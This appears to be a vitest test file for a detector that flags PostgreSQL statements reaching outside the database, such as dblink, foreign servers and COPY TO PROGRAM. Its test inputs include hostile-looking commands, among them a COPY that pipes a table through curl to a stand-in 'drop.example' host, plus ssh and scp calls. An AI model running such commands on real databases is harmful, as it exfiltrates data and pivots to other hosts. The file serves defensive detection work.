import fc from 'fast-check'
import { beforeAll, describe, expect, it } from 'vitest'
import { type SqlPivot, SqlPivots, withParameters } from './pivots.ts'

let pivots: SqlPivots
beforeAll(async () => {
  pivots = await SqlPivots.load()
})

function said(pivot: SqlPivot): string {
  if (pivot.kind === 'program') return `program ${pivot.command}`
  if (pivot.kind === 'parameter') return `parameter ${pivot.number}`
  const { by, account, password, host, port, database } = pivot
  return `${by} ${account ?? ''}:${password ?? ''}@${host ?? ''}:${port ?? ''}/${database ?? ''}`
}

describe('SqlPivots', () => {
  it.each<[string, string[]]>([
    [
      "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'db.internal', port '5433', dbname 'orders')",
      ['server :@db.internal:5433/orders'],
    ],
    ["ALTER SERVER s OPTIONS (SET host 'other.internal')", ['server :@other.internal:/']],
    ["CREATE USER MAPPING FOR app SERVER s OPTIONS (user 'app', password 'hunter2')", ['user-mapping app:hunter2@:/']],
    ["SELECT * FROM dblink('host=db user=app password=p', 'SELECT 1') AS t(a int)", ['dblink app:p@db:/']],
    ["SELECT public.dblink_connect('c', 'postgresql://u:p@h:5433/d')", ['dblink u:p@h:5433/d']],
    ["WITH x AS (SELECT dblink_exec('host=deep', 'DELETE FROM t')) SELECT * FROM x", ['dblink :@deep:/']],
    ["CREATE SUBSCRIPTION s CONNECTION 'host=db user=rep' PUBLICATION p", ['subscription rep:@db:/']],
    ["COPY orders TO PROGRAM 'curl -T - http://drop.example/'", ['program curl -T - http://drop.example/']],
    ['COPY t FROM PROGRAM $$ssh host id$$', ['program ssh host id']],
    ["ALTER SYSTEM SET archive_command = 'scp %p h:/x'", ['program scp %p h:/x']],
    ["SELECT 1; SELECT dblink('host=a', 'x'); COPY t TO PROGRAM 'b'", ['dblink :@a:/', 'program b']],
    ["SELECT 'COPY t TO PROGRAM ''x'''", []],
    ["COPY t TO '/tmp/program'", []],
    ['SELECT * FROM server', []],
    ['CREATE SERVER nonsense (', []],
    ["SELECT dblink('SELECT 1')", []],
    ['SELECT * FROM dblink($1, $2) AS t(a int)', ['parameter 1', 'parameter 2']],
    ["DO $$ BEGIN PERFORM dblink_connect('host=a'); COPY t TO PROGRAM 'b'; END $$", ['dblink :@a:/', 'program b']],
    ["DO 'BEGIN IF dblink(''host=a'', ''x'') = ''1'' THEN NULL; END IF; END'", ['dblink :@a:/']],
    ["DO $$ DECLARE x text; BEGIN x := dblink('host=a', 'y'); END $$", ['dblink :@a:/']],
    ["DO $$ BEGIN EXECUTE 'COPY t TO PROGRAM ''ssh h'''; END $$", ['program ssh h']],
    ["CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ SELECT dblink_exec('host=a', 'x') $$", ['dblink :@a:/']],
    ["CREATE FUNCTION f() RETURNS text LANGUAGE sql BEGIN ATOMIC SELECT dblink('host=a', 'x'); END", ['dblink :@a:/']],
    ["CREATE TABLE server (program text DEFAULT 'dblink')", []],
    ["INSERT INTO logs VALUES ('COPY t TO PROGRAM ''x'''), ('CREATE SERVER s OPTIONS (host ''x'')')", []],
  ])('reads %s', (text, found) => expect(pivots.in(text).map(said)).toEqual(found)) // prettier-ignore

  it('says where a value stands, in UTF-16 units', () => {
    const text = "SELECT 'é😀', dblink('host=db', 'x')"
    expect(pivots.in(text).map(({ offset }) => text.slice(offset, offset + 9))).toEqual(["'host=db'"])
    const body = "SELECT 1; DO $x$ BEGIN a := 1; PERFORM dblink('host=db', 'x'); END $x$"
    expect(pivots.in(body).map(({ offset }) => body.slice(offset, offset + 9))).toEqual(["'host=db'"])
  })

  it('says what bind values name, and nothing of those that are no connection', () => {
    const named = pivots.in("SELECT dblink_connect('c', $2::text), dblink($1, $3)")
    const values = ['host=a password=p', 'postgres://b/d', 'SELECT 1']
    expect(withParameters(named, values).map(said)).toEqual(['dblink :@b:/d', 'dblink :p@a:/'])
    expect(withParameters(named, [null])).toEqual([])
  })

  it('is bounded, and never throws', () => {
    const deep = `SELECT dblink(${'('.repeat(20_000)}'host=a'${')'.repeat(20_000)}, 'x')`
    expect(pivots.in(deep).length).toBeLessThanOrEqual(1)
    expect(pivots.in(`SELECT ${Array.from({ length: 200 }, (_, n) => `dblink('host=h${n}', 'x')`).join(', ')}`)).toHaveLength(64)
    expect(pivots.in(`SELECT dblink('host=a\0b', 'x')`)).toEqual([])
    const word = fc.constantFrom(
      'dblink',
      'SERVER',
      'CREATE',
      'COPY',
      'PROGRAM',
      't',
      "'",
      '$$',
      '(',
      ')',
      ',',
      'OPTIONS',
      'host',
      'SELECT',
      'é',
      ';',
    )
    fc.assert(
      fc.property(fc.array(word, { maxLength: 20 }), (words) => {
        expect(pivots.in(words.join(' ')).length).toBeLessThanOrEqual(64)
      }),
      { numRuns: 10_000, seed: 2026 },
    )
  })
})
